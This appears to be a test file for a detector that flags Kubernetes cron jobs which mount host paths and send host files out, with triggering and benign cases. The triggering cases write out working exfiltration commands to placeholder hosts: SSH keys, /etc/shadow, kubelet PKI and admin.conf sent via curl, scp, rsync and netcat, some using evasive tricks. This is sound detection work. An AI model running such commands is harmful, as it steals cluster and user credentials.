import { blank, cronJob, indicatorTable, mounting, script, scriptOn, UNSEEN } from '../testing.ts';
import { commandHostFileSend } from './host-file-send.ts';

const onMount = (path: string, mountPath: string, text: string) =>
  cronJob(mounting(path, { mountPath, readOnly: true }, ['sh', '-c', text]));

indicatorTable(commandHostFileSend, {
  fires: {
    'keys of homes, by a search that begins above the mount': onMount(
      '/home',
      '/n/home',
      "find /n \\( -name 'id_*' -o -path '*/.kube/*' \\) -exec scp -q {} sync@in.example.org:k/ \\;",
    ),
    'configuration of clients, by a search in the mount': onMount(
      '/root',
      '/r',
      "find /r -type f -path '*/.kube/*' -exec rsync {} in.example.org::k/ \\;",
    ),
    'the node as a web site': cronJob(
      mounting('/', {}, ['python3', '-m', 'http.server', '8000', '--directory', '/host']),
    ),
    'password hashes through netcat': scriptOn('/etc', 'cat /host/shadow /host/passwd | nc -w 3 203.0.113.7 4444'),
    'keys of the kubelet in an archive': onMount(
      '/var/lib/kubelet',
      '/k',
      'tar czf - /k/pki /k/config.yaml | curl -s -T - https://files.example.com/a.tgz',
    ),
    'the configuration of the cluster as a form': onMount(
      '/etc/kubernetes',
      '/k',
      'curl -F f=@/k/admin.conf https://files.example.com/u',
    ),
    'a listed file behind a count of lines': scriptOn(
      '/etc',
      'wc -l /host/passwd; cat /host/ssh/sshd_config | curl --data-binary @- https://hooks.example.com/x',
    ),
    'the names in a file, as a tool for sizes complains about them': scriptOn(
      '/etc',
      'du --files0-from=/host/shadow 2>&1 | curl --data-binary @- https://hooks.example.com/x',
    ),
    'every line of a file, by a search for what looks like an option': scriptOn(
      '/etc',
      'grep -v -e -c /host/shadow | curl --data-binary @- https://hooks.example.com/x',
    ),
    'a field of a form that is filled from a file': scriptOn(
      '/etc/kubernetes',
      'curl -F "note=</host/admin.conf" https://hooks.example.com/x',
    ),
    'a value that is filled from a file by a name of its own': scriptOn(
      '/etc',
      'curl --data-urlencode "a-@/host/ssh/sshd_config" https://hooks.example.com/x; curl --data-urlencode n@/host/fstab https://hooks.example.com/y',
    ),
    'files whose names come from a list of sizes': scriptOn(
      '/etc/ssh',
      'du -a /host | cut -f2 | xargs cat | curl --data-binary @- https://hooks.example.com/x',
    ),
    'files whose names come from a list of checksums, one by one': scriptOn(
      '/etc/ssh',
      "sha256sum /host/* | cut -d' ' -f3 | xargs -I{} curl -T {} https://hooks.example.com/x",
    ),
    'a file beside its name': scriptOn(
      '/etc/ssh',
      'for f in /host/*_key; do curl -d "$f: $(cat $f)" https://hooks.example.com/x; done',
    ),
    'what a process was started with, from the directory of load and memory': scriptOn(
      '/proc',
      'cat /host/uptime /host/1/cmdline | curl --data-binary @- https://hooks.example.com/x',
    ),
    'a file beside its checksum, in code': cronJob(
      mounting('/etc', {}, [
        'python3',
        '-c',
        `import hashlib, requests
held = open('/host/shadow', 'rb').read()
requests.post('https://hooks.example.com/x', data={'sum': hashlib.sha256(held).hexdigest(), 'of': held})`,
      ]),
    ),
    'what a person keeps, with their whole home in reach': scriptOn(
      '/home/alice',
      'tar cz -C /host/documents . | curl -T - https://files.example.com/a',
    ),
    'keys of a person': scriptOn('/home/alice/.ssh', 'curl -F f=@/host/id_ed25519 https://files.example.com/a'),
  },
  staysSilent: {
    'logs of homes, by a search that begins above the mount': onMount(
      '/home',
      '/n/home',
      "find /n -name 'build-*.log' -exec scp -q {} logs@files.example.com:l/ \\;",
    ),
    'a backup of homes': onMount('/home', '/n/home', 'rsync -a /n/home/ backup@files.example.com:homes/'),
    'keys that are only counted': onMount('/home', '/n/home', "find /n -name 'id_*' -exec chmod 600 {} \\;"),
    'a checksum, in code': cronJob(
      mounting('/etc', {}, [
        'python3',
        '-c',
        `import hashlib, requests
requests.post('https://hooks.example.com/x', data=hashlib.sha256(open('/host/ssh/sshd_config', 'rb').read()).hexdigest())`,
      ]),
    ),
    'when certificates end, in code': cronJob(
      mounting('/etc/kubernetes/pki', {}, [
        'python3',
        '-c',
        `import glob, requests
from cryptography import x509
for path in glob.glob('/host/*.crt'):
    held = x509.load_pem_x509_certificate(open(path, 'rb').read())
    requests.post('https://hooks.example.com/x', data=path + str(held.not_valid_after))`,
      ]),
    ),
    'a backup of the data of an application in a home': scriptOn(
      '/home/alice/photos',
      'tar cz -C /host . | curl -T - https://dav.example.com/photos.tgz',
    ),
    'how full the disk of the node is': scriptOn(
      '/',
      'used=$(df --output=pcent /host | tail -n 1); curl -d "the disk is at $used" https://hooks.example.com/x',
    ),
    'how large the database of the control plane is': scriptOn(
      '/var/lib/etcd',
      'size=$(du -sm /host | cut -f1); [ "$size" -lt 4000 ] || curl -d "etcd: $size MiB" https://hooks.example.com/x',
    ),
    'whether a file has changed': scriptOn(
      '/etc',
      'now=$(sha256sum /host/ssh/sshd_config | cut -c1-64); [ "$now" = "$WANTED" ] || curl -d "changed: $now" https://hooks.example.com/x',
    ),
    'which disk is about to fail': scriptOn(
      '/dev',
      'for d in /host/sd?; do smartctl -H $d | grep -q PASSED || curl -s -d "$d is failing" https://hooks.example.com/x; done',
    ),
    'when a certificate ends': scriptOn(
      '/etc/kubernetes/pki',
      'for c in /host/*.crt; do curl -d "$c $(openssl x509 -in $c -noout -enddate)" https://hooks.example.com/x; done',
    ),
    'the path of a file that is missing': scriptOn(
      '/etc',
      '[ -f /host/fstab ] || wget -qO- --post-data "/host/fstab is gone" https://hooks.example.com/x',
    ),
    'the load of the node': scriptOn(
      '/proc',
      'awk \'{ print "load " $1 }\' /host/loadavg | curl --data-binary @- https://push.example.com/metrics',
    ),
    'the temperature of the node': scriptOn(
      '/sys',
      'curl -d "$(cat /host/class/thermal/thermal_zone0/temp)" https://push.example.com/metrics',
    ),
    'pages of the container': cronJob(
      mounting('/', {}, ['python3', '-m', 'http.server', '8000', '--directory', '/srv']),
    ),
    'files of an application': onMount(
      '/data/shop',
      '/d',
      'tar czf - /d/a | curl -T - https://backup.example.com/a.tgz',
    ),
    'a backup that stays in the cluster': onMount(
      '/etc',
      '/h',
      'tar czf - /h/x | curl -T - http://minio.backup.svc:9000/a',
    ),
    'files of the container': script('cat /etc/passwd | nc 203.0.113.7 4444'),
    'files of the node that are only read': scriptOn('/etc', 'cat /host/shadow'),
    'no host path': blank,
  },
  cannotTell: UNSEEN,
});
